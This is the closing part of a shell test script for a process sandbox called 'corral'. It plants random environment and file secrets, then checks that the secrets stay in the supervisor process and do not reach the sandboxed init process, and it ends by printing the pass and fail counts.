	hex=$(head -c 96 /dev/urandom | od -An -tx1 | tr -d ' \n')
	marker=corral-env-${hex:0:64}
	envsecret=env-secret-${hex:64:64}
	filesecret=file-secret-${hex:128:64}
	printf '%s\n' "$filesecret" > "$T/filesecret"
	s=${SECRETS//GOOD/$GOOD}
	policy "" ", ${s//QFILE/$T/filesecret}"
	# not under timeout: its child would be the supervisor; sleep ends it
	CORRAL_TEST_SECRET=$envsecret CORRAL_TEST_ONLY_ENV=$marker "$CORRAL" run \
		--policy "$T/p.json" -- /bin/sleep 30 > "$T/out" 2> "$T/err" < /dev/null &
	sup=$!
	PIDS="$PIDS $sup"
	# init is the supervisor's child; the agent's sleep is init's
	for i in $(seq 1 200); do
		for init in $(children "$sup"); do
			agent=$(children "$init")
			[ -n "$agent" ] && break 2
		done
		sleep 0.05
	done
	if [ -z "$agent" ]; then
		fail "the sandbox did not start: $(cat "$T/err")"
		kill "$sup" 2>/dev/null; wait "$sup" 2>/dev/null || true
		return 1
	fi
	# AddressSanitizer's runtime keeps a copy of the environment it
	# started with, out of corral's reach: there, only the file's secret
	local values="$envsecret $filesecret $marker"
	! ldd "$CORRAL" 2>/dev/null | grep -q libasan || values=$filesecret
	for v in $values; do
		"$scan" "$sup" "$v" > /dev/null || fail "the scan did not find $v in the supervisor"
		"$scan" "$init" "${v: -40}" > "$T/scan" && fail "init holds $v: $(cat "$T/scan")"
	done
	kill "$sup" 2>/dev/null || true
	wait "$sup" 2>/dev/null || true
}

setup
run_tests "$@"
echo "tls ($(id -un 2>/dev/null || id -u)): $PASS passed, $FAIL failed, $SKIP skipped"
[ -n "$FAILED_NAMES" ] && echo "failed:$FAILED_NAMES"
[ "$FAIL" -eq 0 ]
